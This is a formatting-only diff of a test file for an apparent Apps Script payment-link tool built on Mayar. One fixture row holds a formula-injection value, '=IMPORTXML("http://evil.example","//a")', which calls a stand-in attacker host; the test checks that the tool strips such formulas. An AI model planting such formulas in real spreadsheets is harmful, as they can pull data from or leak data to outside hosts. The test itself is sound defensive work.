@@ -107,7 +107,12 @@ describe('creating payment links', () => {
   });
 
   it('says which headers are missing and sends nothing', () => {
-    const world = new World({ rows: [['Customer', 'Email'], ['Budi', 'budi@example.com']] });
+    const world = new World({
+      rows: [
+        ['Customer', 'Email'],
+        ['Budi', 'budi@example.com'],
+      ],
+    });
     world.run('createPaymentLinks');
     expect(world.runtime.ui.alerts.at(-1)?.message).toContain('this sheet needs a header row (row 1) with these columns: Amount'.replace('this', 'This'));
     expect(world.sim.requests).toHaveLength(0);
@@ -136,7 +141,11 @@ describe('creating payment links', () => {
 
   it("shows Mayar's validator messages from an HTTP 200 that says failed", () => {
     const world = new World({ rows: small() });
-    world.sim.injectFault({ type: 'validation-failed', match: (r) => (r.body ?? '').includes('Siti'), errors: [{ field: 'mobile', message: 'mobile must be a valid phone number' }] });
+    world.sim.injectFault({
+      type: 'validation-failed',
+      match: (r) => (r.body ?? '').includes('Siti'),
+      errors: [{ field: 'mobile', message: 'mobile must be a valid phone number' }],
+    });
     world.run('createPaymentLinks');
     expect(world.column('Error')).toEqual(['', 'Mayar rejected it: mobile: mobile must be a valid phone number', '']);
     expect(world.column('Payment Link')[1]).toBe('');
@@ -147,7 +156,7 @@ describe('creating payment links', () => {
     const world = new World({
       rows: [
         ['Name', 'Amount', 'Payment Link', 'Payment ID', 'Transaction ID', 'Status', 'Error'],
-        ["'=IMPORTXML(\"http://evil.example\",\"//a\")", '50000'],
+        ['\'=IMPORTXML("http://evil.example","//a")', '50000'],
         ['Done Already', '60000', 'https://x.myr.lat/pl/1', 'id-1', '', 'Unpaid', "'=1+1"],
         ['Rina', '70000'],
       ],
@@ -158,7 +167,10 @@ describe('creating payment links', () => {
     // Row 3 sits inside the written block; its text must survive the rewrite.
     expect(rows[1]?.['Error']).toBe('=1+1');
     for (const sheet of [SHEET, 'Mayar Log']) {
-      const formulas = world.runtime.spreadsheet.formulas(sheet).flat().filter((f) => f !== '');
+      const formulas = world.runtime.spreadsheet
+        .formulas(sheet)
+        .flat()
+        .filter((f) => f !== '');
       expect(formulas).toEqual([]);
       expect(world.values(sheet).flat()).not.toContain(FORMULA_VALUE);
     }
@@ -226,7 +238,22 @@ describe('creating payment links', () => {
   });
 
   it('builds the Mayar menu: its own in a bound script, under Extensions in an add-on, also before the add-on is authorised', () => {
-    const ITEMS = ['createPaymentLinks', 'createPaymentLinksForSelection', 'showProgress', 'refreshPaymentStatus', 'updateSummary', 'closeSelectedPaymentLinks', 'renewExpiredLinks', 'billNextPeriod', 'sendPaymentLinksByEmail', 'showWhatsApp', 'setUpSheet', 'checkRows', 'showSettings', 'showDiagnostics'];
+    const ITEMS = [
+      'createPaymentLinks',
+      'createPaymentLinksForSelection',
+      'showProgress',
+      'refreshPaymentStatus',
+      'updateSummary',
+      'closeSelectedPaymentLinks',
+      'renewExpiredLinks',
+      'billNextPeriod',
+      'sendPaymentLinksByEmail',
+      'showWhatsApp',
+      'setUpSheet',
+      'checkRows',
+      'showSettings',
+      'showDiagnostics',
+    ];
     const itemsOf = (world: World) => (world.runtime.ui.menus.at(-1)?.items ?? []).flatMap((i) => (i.kind === 'item' ? [i.functionName] : []));
     const bound = new World();
     expect(bound.runtime.open({ authMode: 'FULL' }).error).toBeUndefined();
@@ -245,7 +272,18 @@ describe('creating payment links', () => {
 
   it('is one Apps Script file whose entry points are top-level functions', () => {
     const code = readFileSync(new URL('../../dist/Code.js', import.meta.url), 'utf8');
-    const names = ['onOpen', 'onInstall', 'createPaymentLinks', 'createPaymentLinksForSelection', 'processNextBatch', 'saveSettings', 'getSettings', 'showSettings', 'refreshPaymentStatus', 'doPost'];
+    const names = [
+      'onOpen',
+      'onInstall',
+      'createPaymentLinks',
+      'createPaymentLinksForSelection',
+      'processNextBatch',
+      'saveSettings',
+      'getSettings',
+      'showSettings',
+      'refreshPaymentStatus',
+      'doPost',
+    ];
     for (const name of names) expect(code).toMatch(new RegExp(`^function ${name}\\(`, 'm'));
     expect(code).not.toMatch(/^\s*export\s/m);
     const manifest = JSON.parse(readFileSync(new URL('../../dist/appsscript.json', import.meta.url), 'utf8'));
